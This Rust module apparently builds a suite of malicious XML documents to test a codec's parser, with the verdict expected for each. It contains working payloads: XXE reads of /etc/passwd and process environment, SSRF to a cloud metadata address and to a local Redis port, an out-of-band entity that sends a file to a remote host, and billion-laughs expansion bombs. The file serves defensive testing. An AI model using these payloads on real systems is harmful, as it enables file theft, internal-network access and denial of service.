//! Attacks on readers of XML, as data: entities, files and networks, depth, number, length, encodings, and what only looks like XML.
//!
//! **Shape**: [`all`] makes every document in about the size that is asked for; `verdict` says what the codec makes of it. What is taken
//! is data like any other: a name that nobody follows.

use std::fmt::Write as _;

use taskgate::codec::DecodeFault::{self, Depth, Doctype, Duplicate, Encoding, Entity, Incomplete, Namespace, Nodes, Syntax};

/// One document that means ill.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    pub(crate) document: Vec<u8>,
    /// Why it is refused, or that it is taken under a schema that knows nothing.
    pub(crate) verdict: Result<(), DecodeFault>,
}

/// Every attack, the long ones with about `size` bytes.
pub(crate) fn all(size: usize) -> Vec<Attack> {
    let mut all = Vec::new();
    for (name, declaration, content) in ENTITIES {
        all.push(attack(
            name,
            format!("<?xml version=\"1.0\"?>\n{declaration}<r>{content}</r>"),
            Err(Doctype),
        ));
    }
    for (name, document, verdict) in SHORT {
        all.push(attack(name, *document, *verdict));
    }
    all.extend(entities(size));
    all.extend(deep(size));
    all.extend(many(size));
    all.extend(long(size));
    all.extend(encoded());
    all
}

fn attack(name: &'static str, document: impl Into<Vec<u8>>, verdict: Result<(), DecodeFault>) -> Attack {
    Attack {
        name,
        document: document.into(),
        verdict,
    }
}

/// Name, document type declaration, content of the root element.
const ENTITIES: &[(&str, &str, &str)] = &[
    ("entity that is itself", "<!DOCTYPE r [<!ENTITY a \"&a;\">]>", "&a;"),
    (
        "entities of each other",
        "<!DOCTYPE r [<!ENTITY a \"&b;&b;\"><!ENTITY b \"&a;&a;\">]>",
        "&a;",
    ),
    ("file", "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>", "&x;"),
    (
        "file of the process",
        "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///proc/self/environ\">]>",
        "&x;",
    ),
    ("file without end", "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///dev/zero\">]>", "&x;"),
    (
        "file on another machine",
        "<!DOCTYPE r [<!ENTITY x SYSTEM \"\\\\192.0.2.1\\share\">]>",
        "&x;",
    ),
    (
        "folder in an archive",
        "<!DOCTYPE r [<!ENTITY x SYSTEM \"jar:http://192.0.2.1/a.jar!/b\">]>",
        "&x;",
    ),
    (
        "metadata service",
        "<!DOCTYPE r [<!ENTITY x SYSTEM \"http://169.254.169.254/latest/meta-data/\">]>",
        "&x;",
    ),
    (
        "port of this machine",
        "<!DOCTYPE r [<!ENTITY x SYSTEM \"gopher://127.0.0.1:6379/_FLUSHALL\">]>",
        "&x;",
    ),
    (
        "filter of an interpreter",
        "<!DOCTYPE r [<!ENTITY x SYSTEM \"php://filter/read=convert.base64-encode/resource=/etc/passwd\">]>",
        "&x;",
    ),
    (
        "command of an interpreter",
        "<!DOCTYPE r [<!ENTITY x SYSTEM \"expect://id\">]>",
        "&x;",
    ),
    (
        "public entity",
        "<!DOCTYPE r [<!ENTITY x PUBLIC \"-//A//B//EN\" \"http://192.0.2.1/x\">]>",
        "&x;",
    ),
    (
        "unparsed entity",
        "<!DOCTYPE r [<!NOTATION n SYSTEM \"/bin/sh\"><!ENTITY x SYSTEM \"a.gif\" NDATA n>]>",
        "",
    ),
    (
        "parameter entity",
        "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://192.0.2.1/evil.dtd\">%p;]>",
        "",
    ),
    (
        "parameter entity that sends a file",
        "<!DOCTYPE r [<!ENTITY % f SYSTEM \"file:///etc/hostname\"><!ENTITY % e \"<!ENTITY &#37; s SYSTEM 'http://192.0.2.1/?%f;'>\">%e;%s;]>",
        "",
    ),
    (
        "local declaration turned over",
        "<!DOCTYPE r [<!ENTITY % l SYSTEM \"file:///usr/share/xml/fontconfig/fonts.dtd\"><!ENTITY % expr 'a)><!ENTITY &#x25; f SYSTEM \"file:///etc/passwd\">'>%l;]>",
        "",
    ),
    ("external subset", "<!DOCTYPE r SYSTEM \"http://192.0.2.1/r.dtd\">", ""),
    (
        "external subset, public",
        "<!DOCTYPE r PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://192.0.2.1/r.dtd\">",
        "",
    ),
    (
        "external subset beside the document",
        "<!DOCTYPE r SYSTEM \"../../../../etc/passwd\">",
        "",
    ),
    (
        "entity in an attribute",
        "<!DOCTYPE r [<!ENTITY x \"<b/>\"><!ATTLIST r a CDATA \"&x;\">]>",
        "",
    ),
    ("declaration without a name", "<!DOCTYPE>", ""),
    ("declaration with nothing in it", "<!DOCTYPE r []>", ""),
];

/// What needs no length.
const SHORT: &[(&str, &str, Result<(), DecodeFault>)] = &[
    ("entity that nobody declared", "<r>&xxe;</r>", Err(Entity)),
    ("entity that nobody declared, in an attribute", "<r a='&xxe;'/>", Err(Entity)),
    ("declaration in an element", "<r><!DOCTYPE r []></r>", Err(Doctype)),
    ("declaration after the root", "<r/><!DOCTYPE r []>", Err(Doctype)),
    ("declaration in small letters", "<!doctype html><html></html>", Err(Doctype)),
    (
        "declaration of an entity alone",
        "<!ENTITY x SYSTEM 'file:///etc/passwd'><r/>",
        Err(Syntax),
    ),
    ("conditional section", "<r><![INCLUDE[<x/>]]></r>", Err(Incomplete)),
    (
        "inclusion",
        "<r xmlns:i='http://www.w3.org/2001/XInclude'><i:include href='file:///etc/passwd' parse='text'/></r>",
        Ok(()),
    ),
    (
        "place of a schema",
        "<r xmlns:x='http://www.w3.org/2001/XMLSchema-instance' x:noNamespaceSchemaLocation='http://192.0.2.1/'/>",
        Ok(()),
    ),
    (
        "style sheet",
        "<?xml-stylesheet type='text/xsl' href='http://192.0.2.1/evil.xsl'?><r/>",
        Ok(()),
    ),
    ("base of references", "<r xml:base='file:///etc/'><a href='passwd'/></r>", Ok(())),
    ("two roots", "<r/><r/>", Err(Syntax)),
    ("text after the root", "<r/>bad", Err(Syntax)),
    ("reference to nothing", "<r>&#0;</r>", Err(Syntax)),
    ("reference to half a character", "<r>&#xD800;</r>", Err(Syntax)),
    ("reference beyond all characters", "<r>&#x110000;</r>", Err(Syntax)),
    ("character that no document may hold", "<r>\u{1}</r>", Err(Syntax)),
    ("nothing among text", "<r>a\0b</r>", Err(Syntax)),
    ("prefix that nobody declared", "<p:r/>", Err(Namespace)),
    ("prefix of the declarations", "<r xmlns:xmlns='urn:a'/>", Err(Namespace)),
    ("attribute twice", "<r a='1' a='2'/>", Err(Duplicate)),
    (
        "attribute twice by two prefixes",
        "<r xmlns:p='urn:a' xmlns:q='urn:a' p:a='1' q:a='2'/>",
        Err(Duplicate),
    ),
    (
        "instruction with the name of the declaration",
        "<r><?xml version='1.0'?></r>",
        Err(Syntax),
    ),
    ("page", "<html><body>Bad Gateway<br></body></html>", Err(Syntax)),
    ("other notation", "{\"r\":1}", Err(Syntax)),
];

fn entities(size: usize) -> [Attack; 7] {
    let laughs = |kind: &str, sign: &str| {
        let mut text = format!("<!DOCTYPE r [<!ENTITY {kind}l0 \"lol\">");
        for level in 1..10 {
            let _infallible = write!(text, "<!ENTITY {kind}l{level} \"{}\">", format!("{sign}l{};", level - 1).repeat(10));
        }
        text
    };
    let quadratic = format!(
        "<!DOCTYPE r [<!ENTITY a \"{}\">]><r>{}</r>",
        "a".repeat(size / 2),
        "&a;".repeat(size / 6)
    );
    let defaults = format!(
        "<!DOCTYPE r [<!ATTLIST b c CDATA \"{}\">]><r>{}</r>",
        "a".repeat(size / 2),
        "<b/>".repeat(size / 8)
    );
    [
        attack("billion laughs", format!("{}]><r>&l9;</r>", laughs("", "&")), Err(Doctype)),
        attack(
            "billion laughs by parameters",
            format!("{}%l9;]><r/>", laughs("% ", "&#37;")),
            Err(Doctype),
        ),
        attack(
            "billion laughs in an attribute",
            format!("{}]><r a='&l9;'/>", laughs("", "&")),
            Err(Doctype),
        ),
        attack("quadratic growth", quadratic, Err(Doctype)),
        attack("defaults of attributes", defaults, Err(Doctype)),
        attack(
            "declaration without an end",
            format!("<!DOCTYPE r {}", "[".repeat(size)),
            Err(Doctype),
        ),
        attack(
            "declaration after a long way",
            format!("{}<!DOCTYPE r []><r/>", " ".repeat(size)),
            Err(Doctype),
        ),
    ]
}

fn deep(size: usize) -> [Attack; 5] {
    let count = size / 7;
    let mut namespaces = String::new();
    for level in 0..size / 24 {
        let _infallible = write!(namespaces, "<a xmlns:p{level}='urn:{level}'>");
    }
    [
        attack("elements without an end", "<a>".repeat(size / 3), Err(Depth)),
        attack("deep", format!("{}{}", "<a>".repeat(count), "</a>".repeat(count)), Err(Depth)),
        attack("deep with attributes", "<a b='c'>".repeat(size / 9), Err(Depth)),
        attack("deep with namespaces", namespaces, Err(Depth)),
        attack("ends without a beginning", format!("<r/>{}", "</a>".repeat(size / 4)), Err(Syntax)),
    ]
}

fn many(size: usize) -> [Attack; 14] {
    let attributes = |count: usize, pattern: fn(&mut String, usize)| {
        let mut text = String::from("<r");
        (0..count).for_each(|number| pattern(&mut text, number));
        text
    };
    let plain = |text: &mut String, number: usize| {
        let _infallible = write!(text, " a{number:06}=''");
    };
    let scattered = |text: &mut String, number: usize| {
        let _infallible = write!(text, " a{:06}=''", number * 618_033 % 1_000_000);
    };
    let declared = |text: &mut String, number: usize| {
        let _infallible = write!(text, " xmlns:p{number:06}='u{number}'");
    };
    // Each element is in the third namespace of one name, so it is kept under the whole of it.
    let mut collisions = format!("<r xmlns:q='urn:{}'>", "long".repeat(60));
    for number in 0..size / 80 {
        let _infallible = write!(collisions, "<q:a{number} xmlns:q='x'/><q:a{number} xmlns:q='y'/><q:a{number}/>");
    }
    // As many as no reply may have, however short they are.
    let elements = 200_001;
    [
        attack("elements", format!("<r>{}</r>", "<a/>".repeat(elements)), Err(Nodes)),
        attack(
            "elements of many names",
            format!(
                "<r>{}</r>",
                (0..size / 11).fold(String::new(), |text, number| text + &format!("<a{number:06}/>"))
            ),
            Ok(()),
        ),
        attack(
            "elements of many names in no order",
            format!(
                "<r>{}</r>",
                (0..size / 11).fold(String::new(), |text, number| text
                    + &format!("<a{:06}/>", number * 618_033 % 1_000_000))
            ),
            Ok(()),
        ),
        attack("attributes in no order", attributes(size / 11, scattered) + "/>", Ok(())),
        attack("attributes", attributes(size / 11, plain) + "/>", Ok(())),
        attack(
            "attributes, the last one twice",
            attributes(size / 11, plain) + " a000000=''/>",
            Err(Duplicate),
        ),
        attack("declarations of namespaces", attributes(size / 22, declared) + "/>", Ok(())),
        attack(
            "declarations of one namespace, an attribute twice",
            attributes(size / 22, declared) + " xmlns:x='u0' x:a='' p000000:a=''/>",
            Err(Duplicate),
        ),
        attack("namespaces that collide", collisions + "</r>", Ok(())),
        attack("comments", format!("<r>{}</r>", "<!---->".repeat(size / 7)), Ok(())),
        attack("sections", format!("<r>{}</r>", "<![CDATA[]]>".repeat(size / 12)), Ok(())),
        attack("instructions", format!("<r>{}</r>", "<?p?>".repeat(size / 5)), Ok(())),
        attack("references", format!("<r>{}</r>", "&lt;".repeat(size / 4)), Ok(())),
        attack("line ends", format!("<r a='{0}'>{0}</r>", "\r".repeat(size / 2)), Ok(())),
    ]
}

fn long(size: usize) -> [Attack; 18] {
    let name = "n".repeat(size / 2);
    [
        attack("name", format!("<{name}></{name}>"), Ok(())),
        attack("name that ends otherwise", format!("<{name}></{name}x>"), Err(Syntax)),
        attack("name of an attribute", format!("<r {name}=''/>"), Ok(())),
        attack("name of a reference", format!("<r>&{name};</r>"), Err(Entity)),
        attack(
            "name of a namespace",
            format!("<r xmlns='{name}'><a/><p:a xmlns:p='{}'/></r>", "m".repeat(size / 2)),
            Ok(()),
        ),
        attack("text", format!("<r>{}</r>", "t".repeat(size)), Ok(())),
        attack("white space", format!("{}<r/>", " ".repeat(size)), Ok(())),
        attack("white space in a tag", format!("<r{}/>", "\n".repeat(size)), Ok(())),
        attack("number with zeros before it", format!("<r>&#{}65;</r>", "0".repeat(size)), Ok(())),
        attack(
            "number beyond all characters",
            format!("<r>&#{};</r>", "9".repeat(size)),
            Err(Syntax),
        ),
        attack(
            "comment without an end",
            format!("<r><!--{}", "->".repeat(size / 2)),
            Err(Incomplete),
        ),
        attack(
            "section without an end",
            format!("<r><![CDATA[{}", "]>".repeat(size / 2)),
            Err(Incomplete),
        ),
        attack(
            "instruction without an end",
            format!("<r><?p {}", "?".repeat(size)),
            Err(Incomplete),
        ),
        attack("attribute without an end", format!("<r a='{}", ">".repeat(size)), Err(Incomplete)),
        attack("brackets", "<".repeat(size), Err(Incomplete)),
        attack("ampersands", format!("<r>{}</r>", "&".repeat(size)), Err(Syntax)),
        attack("nothing but text", "t".repeat(size), Err(Syntax)),
        attack("nothing but white space", " ".repeat(size), Err(Incomplete)),
    ]
}

fn encoded() -> [Attack; 10] {
    let declared = "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>";
    let words = |big_endian: bool| {
        let to_bytes = move |unit: u16| if big_endian { unit.to_be_bytes() } else { unit.to_le_bytes() };
        declared.encode_utf16().flat_map(to_bytes).collect::<Vec<u8>>()
    };
    let named = |name: &str, content: &str| format!("<?xml version='1.0' encoding='{name}'?>{content}");
    [
        attack(
            "UTF-16, low byte first",
            [b"\xFF\xFE".to_vec(), words(false)].concat(),
            Err(Encoding),
        ),
        attack(
            "UTF-16, high byte first",
            [b"\xFE\xFF".to_vec(), words(true)].concat(),
            Err(Encoding),
        ),
        attack("UTF-16 without a mark", words(true), Err(Encoding)),
        attack(
            "UTF-32",
            [
                b"\0\0\xFE\xFF".to_vec(),
                declared.bytes().flat_map(|byte| [0, 0, 0, byte]).collect(),
            ]
            .concat(),
            Err(Encoding),
        ),
        attack("UTF-7", named("UTF-7", "+ADw-+ACE-DOCTYPE r+AD4-<r/>"), Err(Encoding)),
        attack("said to be UTF-16", named("UTF-16", "<r/>"), Err(Encoding)),
        attack("code page of large machines", named("IBM037", "<r/>"), Err(Encoding)),
        attack("mark, and mark again", "\u{FEFF}\u{FEFF}<r/>", Err(Syntax)),
        attack("bracket written too long", b"<r>\xC0\xBCx/></r>".to_vec(), Err(Encoding)),
        attack("half a character at the end", b"<r>\xE2\x82".to_vec(), Err(Encoding)),
    ]
}
